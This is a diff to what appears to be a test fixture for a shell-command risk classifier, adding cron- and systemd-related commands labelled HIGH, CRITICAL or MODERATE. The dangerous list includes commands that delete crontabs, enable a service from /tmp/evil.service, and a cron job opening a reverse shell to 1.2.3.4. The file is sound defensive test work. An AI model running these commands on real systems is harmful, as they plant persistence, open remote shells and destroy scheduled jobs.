@@ -173,6 +173,20 @@ DETACHED = [
 
 # Round two (written after the first fixes): other spellings and carriers of the same jobs.
 MORE_DANGEROUS = [
+    ("sudo systemctl disable --now cron", HIGH),
+    ("sudo systemctl mask cron", HIGH),
+    ("sudo systemctl stop crond", HIGH),
+    ("sudo rm -rf /var/spool/cron/crontabs/*", HIGH),
+    ("sudo find /etc/cron.d -type f -delete", HIGH),
+    ("> /etc/crontab", HIGH),
+    ("sudo -u www-data crontab /tmp/c", HIGH),
+    ("sudo systemctl enable /tmp/evil.service", HIGH),
+    ("systemctl --user link ~/Downloads/agent.service", HIGH),
+    (
+        "(crontab -l ; echo \"*/1 * * * * /bin/bash -c 'sh -i >& /dev/tcp/1.2.3.4/443 0>&1'\") "
+        "| crontab -",
+        CRITICAL,
+    ),
     ("sudo -u www-data crontab -r", HIGH),
     ("crontab -u root -r", HIGH),
     ("crontab <<< '* * * * * /tmp/x'", HIGH),
@@ -217,6 +231,14 @@ MORE_DANGEROUS = [
 ]
 
 MORE_BENIGN = [
+    ("sudo systemctl restart cron", MODERATE),
+    ("sudo systemctl enable --now cron", MODERATE),
+    ("sudo systemctl enable --now atd", MODERATE),
+    ("sudo run-parts /etc/cron.daily", MODERATE),
+    ("sudo anacron -f -n", MODERATE),
+    ("at -q z now + 1 min <<< 'touch ~/done'", MODERATE),
+    ("crontab -l > cron.bak && crontab cron.bak", MODERATE),
+    ("watch -n 60 ./check.sh", MODERATE),
     ("crontab -l > /tmp/mycron && cat /tmp/mycron", MODERATE),
     ("crontab -l | wc -l", SAFE),
     ("sudo crontab -u www-data -l", MODERATE),
